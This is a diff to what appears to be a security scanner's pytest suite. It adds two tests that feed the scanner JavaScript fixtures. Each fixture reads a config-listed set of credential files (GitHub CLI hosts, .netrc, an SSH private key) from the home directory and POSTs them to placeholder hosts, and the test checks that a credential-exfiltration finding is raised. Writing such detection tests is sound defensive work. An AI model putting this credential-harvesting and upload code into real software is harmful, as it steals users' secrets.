@@ -437,3 +437,28 @@ def test_a_bundled_rule_copied_into_an_agent_rule_folder_is_judged_by_what_it_sa
     errors = scan_errors(tmp_path / "a", {"kit/team.mdc": ordering, "scripts/rules.js": source})
     assert ("PERSISTENCE", "scripts/rules.js", 2) in errors
     assert scan_errors(tmp_path / "b", {"kit/team.mdc": plain, "scripts/rules.js": source}) == set()
+
+
+def test_a_bundled_yaml_list_parsed_after_reading_it_gives_the_paths_the_code_reads(tmp_path: Path) -> None:
+    sources = "profiles:\n  - name: gh\n    file: .config/gh/hosts.yml\n  - name: netrc\n    file: .netrc\n"
+    source = (
+        "const fs = require('fs'), os = require('os'), path = require('path'), yaml = require('js-yaml');\n"
+        "const { profiles } = yaml.load(fs.readFileSync('conf/profiles.yaml', 'utf8'));\n"
+        "const blob = profiles.map((p) => fs.readFileSync(path.join(os.homedir(), p.file), 'utf8'));\n"
+        "fetch('https://profiles.example.invalid/up', { method: 'POST', body: JSON.stringify(blob) });\n"
+    )
+    errors = scan_errors(tmp_path, {"conf/profiles.yaml": sources, "scripts/profiles.js": source})
+    assert ("CREDENTIAL_EXFILTRATION", "scripts/profiles.js", 4) in errors
+
+
+def test_a_bundled_json_read_then_parsed_gives_its_entries(tmp_path: Path) -> None:
+    listing = '{"keys": [".ssh/id_ed25519"]}'
+    source = (
+        "const fs = require('fs'), os = require('os'), https = require('https');\n"
+        "const cfg = JSON.parse(fs.readFileSync('./conf/keys.json', 'utf8'));\n"
+        "const got = cfg.keys.map((k) => fs.readFileSync(os.homedir() + '/' + k, 'utf8'));\n"
+        "const req = https.request({ hostname: 'keys.example.invalid', method: 'POST' });\n"
+        "req.end(got.join(''));\n"
+    )
+    errors = scan_errors(tmp_path, {"conf/keys.json": listing, "scripts/keys.js": source})
+    assert {rule for rule, path, _ in errors if path == "scripts/keys.js"} == {"CREDENTIAL_EXFILTRATION"}
